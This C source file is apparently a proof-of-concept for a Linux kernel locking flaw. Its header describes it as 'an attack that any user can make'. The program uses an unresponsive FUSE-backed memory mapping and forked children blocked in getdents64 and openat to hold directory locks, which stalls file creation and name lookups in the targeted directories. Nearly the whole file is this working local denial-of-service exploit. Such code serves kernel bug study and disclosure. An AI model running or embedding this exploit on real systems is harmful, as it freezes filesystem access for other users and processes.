// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * lock-dirs DIR COUNT: an attack that any user can make. COUNT directories in DIR stay locked until
 * this process ends. The process has code mapped from a removed file in each of them, whose name,
 * "code (deleted)", is not in the kernel's cache of names. Prints "locked" when all is done.
 *
 * getdents() holds the directory's lock while it writes to memory, which is mapped from a FUSE file
 * whose server doesn't answer. A process that creates a file waits for the lock, and then lookups
 * of names wait, too.
 */
#include <sys/mman.h>
#include <sys/syscall.h>

#include "fuse.h"

#define PAGE	   4096
#define FILE_BYTES (1 << 20)

static void map_code(const char *dir)
{
	char path[4200];
	int fd;

	snprintf(path, sizeof(path), "%s/code", dir);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0700);
	if (fd < 0 || ftruncate(fd, PAGE) ||
	    mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		err(1, "%s", path);
	close(fd);
	unlink(path);
}

static void read_dir(const char *dir, void *memory)
{
	int fd = open(dir, O_RDONLY | O_DIRECTORY);

	syscall(SYS_getdents64, fd, memory, PAGE);
}

static void create_file(const char *dir, void *unused)
{
	char path[4200];

	(void)unused;
	snprintf(path, sizeof(path), "%s/file", dir);
	syscall(SYS_openat, AT_FDCWD, path, O_RDWR | O_CREAT, 0600);
}

static void wait_in_child(void (*run)(const char *dir, void *memory), const char *dir, void *memory,
			  long call)
{
	pid_t child = fork();

	if (child < 0)
		err(1, "fork");
	if (!child) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		run(dir, memory);
		exit(1);
	}
	wait_until_in(child, call);
}

int main(int argc, char **argv)
{
	int count = argc == 3 ? atoi(argv[2]) : 0, fd;
	char path[4096], *memory;
	pid_t server;

	if (count < 1)
		errx(1, "usage: lock-dirs DIR COUNT");
	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof(path), "%s/%d", argv[1], i);
		if (mkdir(path, 0700))
			err(1, "%s", path);
		map_code(path);
	}
	name = "file";
	like.st_ino = FILE_ID;
	like.st_size = FILE_BYTES;
	snprintf(path, sizeof(path), "%s/mount", argv[1]);
	if (mkdir(path, 0700))
		err(1, "%s", path);
	server = mount_file(path);
	strcat(path, "/file");
	fd = open(path, O_RDONLY | O_CLOEXEC);
	memory = mmap(NULL, FILE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (fd < 0 || memory == MAP_FAILED)
		err(1, "%s", path);
	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof(path), "%s/%d", argv[1], i);
		wait_in_child(read_dir, path, memory, SYS_getdents64);
		wait_in_child(create_file, path, NULL, SYS_openat);
	}
	puts("locked");
	fflush(stdout);
	waitpid(server, NULL, 0);
	return 0;
}
